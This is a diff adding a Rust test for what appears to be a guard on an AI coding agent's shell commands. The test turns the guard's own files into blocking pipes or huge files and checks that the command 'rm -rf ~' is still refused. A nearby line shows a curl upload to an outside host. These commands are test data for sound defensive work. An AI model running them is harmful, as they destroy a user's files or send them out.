@@ -226,6 +226,51 @@ fn trust_is_of_a_place() {
     assert_ne!(ask(&other, "curl -T notes.txt https://example.com").decision().as_deref(), Some("allow"));
 }
 
+/// Finding 01: whatever somebody else puts where a hook reads, a pipe that nobody fills or a file of 20 GB, a call that has to be refused is
+/// refused, in every scope.
+#[cfg(target_os = "linux")]
+#[test]
+fn no_reader_lets_a_refused_call_pass() {
+    type Place = fn(&Sandbox) -> std::path::PathBuf;
+    let places: [(&str, Place); 11] = [
+        ("configuration", |sandbox| sandbox.path(CONFIG)),
+        ("the person's", |sandbox| sandbox.home().join(".config/hookbin/hookbin.toml")),
+        ("compiled", Sandbox::compiled),
+        ("trust", Sandbox::record_of_trust),
+        ("state", |sandbox| sandbox.state(&format!("sessions/{}.json", crate::faults::SESSION))),
+        ("lock", |sandbox| sandbox.state("lock")),
+        ("log", |sandbox| sandbox.log().join("audit.jsonl")),
+        ("settings", |sandbox| sandbox.path(".claude/settings.json")),
+        ("git", |sandbox| sandbox.path(".git/HEAD")),
+        ("git's settings", |sandbox| sandbox.path(".git/config")),
+        ("transcript", |sandbox| sandbox.path("transcript.jsonl")),
+    ];
+    for (what, place) in places {
+        for blocks in [true, false] {
+            let sandbox = clone_with("profile = [\"standard\", \"guardrails\"]\n", DENIES);
+            std::fs::create_dir_all(sandbox.path(".git")).unwrap();
+            std::fs::write(sandbox.path(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+            sandbox.trust();
+            assert_eq!(ask(&sandbox, "rm -rf ~").code, Some(2));
+            let path = place(&sandbox);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            let _ = std::fs::remove_file(&path);
+            if blocks {
+                let made = Command::new("mkfifo").arg(&path).env_clear().env("PATH", "/usr/bin:/bin").status().unwrap();
+                assert!(made.success());
+            } else {
+                std::fs::File::create(&path).unwrap().set_len(20 << 30).unwrap();
+            }
+            let mut call: serde_json::Value = serde_json::from_slice(&bash("rm -rf ~")).unwrap();
+            call["transcript_path"] = json!(sandbox.path("transcript.jsonl"));
+            for scope in [&["PreToolUse"][..], &["PreToolUse", "--user"], &["PreToolUse", "--local"]] {
+                let ran = sandbox.hook(scope, call.to_string().as_bytes());
+                assert_eq!(ran.code, Some(2), "{what}, a pipe: {blocks}, {scope:?}: {ran:?}");
+            }
+        }
+    }
+}
+
 /// A script that says that it stands for the person.
 fn unattended(sandbox: &Sandbox, args: &[&str]) -> Ran {
     let mut command = sandbox.command(args);
